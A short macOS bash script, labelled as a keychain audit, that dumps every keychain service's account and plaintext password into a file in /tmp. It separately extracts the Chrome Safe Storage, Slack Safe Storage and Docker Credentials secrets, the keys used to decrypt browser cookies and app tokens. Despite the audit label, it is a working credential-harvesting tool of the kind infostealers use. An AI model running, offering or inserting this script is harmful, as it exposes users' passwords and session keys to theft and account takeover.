#!/bin/bash
out=/tmp/keychain-audit.txt
: > "$out"
security dump-keychain 2>/dev/null | awk -F'"' '/"svce"<blob>=/{print $4}' | sort -u | while read -r svc; do
  acct=$(security find-generic-password -s "$svc" 2>/dev/null | awk -F'"' '/"acct"<blob>=/{print $4}')
  pw=$(security find-generic-password -s "$svc" -w 2>/dev/null)
  echo "$svc | $acct | $pw | len=${#pw}" >> "$out"
done
for s in "Chrome Safe Storage" "Slack Safe Storage" "Docker Credentials"; do
  echo "$s | $(security find-generic-password -wa "$s" 2>/dev/null)" >> "$out"
done
echo "audit written to $out"
